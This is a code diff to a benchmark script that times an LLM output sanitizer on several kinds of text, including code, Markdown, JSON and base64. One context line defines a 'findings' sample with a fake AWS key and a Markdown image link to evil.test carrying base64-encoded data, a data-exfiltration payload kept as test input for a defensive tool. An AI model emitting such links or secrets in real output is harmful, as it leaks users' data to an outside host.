@@ -3,23 +3,27 @@
     .venv/bin/python -m benchmarks.sanitize_throughput
 
 Bounds: 20 MB/s, and 50 µs for a chunk (decoded, read and written again; the bare reader beside it).
-The texts are prose, prose with links and code, and a text full of findings. Times are those of the
-processor, so that a busy machine counts for little.
+The texts are prose, prose with links and code, the code of this project, its README, JSON, base64,
+and a text full of findings. Times are those of the processor, so that a busy machine counts for
+little.
 """
 
 from __future__ import annotations
 
 import asyncio
+import base64
 import json
+import random
 import statistics
 import time
 from collections.abc import Callable
+from pathlib import Path
 from typing import Any
 
 from vauban.hosts.vllm.answers import error_answer
 from vauban.hosts.vllm.output_events import output_editor
 from vauban.hosts.vllm.rewrite import Rewriter
-from vauban.policy import OutputPolicy
+from vauban.policy_output import OutputPolicy
 from vauban.protocol.shapes import Shape
 from vauban.standin import prose
 from vauban.text.sanitize import Sanitizer
@@ -43,7 +47,24 @@ FINDINGS = "The key is AKIAQ3EGRSEX7PLMNBVC and ![x](https://evil.test/?d=c2Vjcm
 def texts() -> dict[str, str]:
     plain = prose(40_000, 1)
     mixed = "\n".join(f"{prose(60, n)}\n{MIXED}" for n in range(400))
-    kinds = {"prose": plain, "prose, links and code": mixed, "full of findings": FINDINGS * 3_000}
+    root = Path(__file__).parents[1]
+    sources = sorted((root / "plugin" / "vauban" / "hosts" / "vllm").glob("*.py"))
+    rows = [
+        {"id": n, "name": f"item {n}", "price": n * 1.25, "url": f"https://example.org/items/{n}"}
+        for n in range(2_000)
+    ]
+    drawn = random.Random(1)  # noqa: S311
+    kinds = {
+        "prose": plain,
+        "prose, links and code": mixed,
+        "code": "\n".join(source.read_text(encoding="utf-8") for source in sources),
+        "Markdown": (root / "README.md").read_text(encoding="utf-8"),
+        "JSON": json.dumps(rows, indent=1),
+        "lines of base64": "\n".join(
+            base64.b64encode(drawn.randbytes(57)).decode() for _ in range(4_000)
+        ),
+        "full of findings": FINDINGS * 3_000,
+    }
     return {name: (text * (CHARS // len(text) + 1))[:CHARS] for name, text in kinds.items()}
 
 
